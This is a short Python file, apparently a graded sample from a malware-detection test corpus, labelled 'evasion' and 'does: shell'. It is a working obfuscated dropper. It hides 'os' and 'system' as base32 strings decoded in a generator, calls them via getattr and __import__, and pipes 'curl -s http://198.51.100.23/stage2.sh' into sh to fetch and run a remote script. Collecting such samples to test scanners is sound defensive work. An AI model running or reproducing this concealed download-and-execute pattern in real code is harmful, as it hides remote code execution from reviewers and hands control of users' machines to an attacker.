# evasion: module and function names are base32 strings decoded in a generator; the call is getattr(__import__(next(g)), next(g))
# grade: hard; does: shell
import base64

PARTS = ("N5ZQ====", "ON4XG5DFNU======")
CMD = "curl -s http://198.51.100.23/stage2.sh | sh"


def names():
    for part in PARTS:
        yield base64.b32decode(part).decode("ascii")


g = names()
mod = __import__(next(g))
getattr(mod, next(g))(CMD)
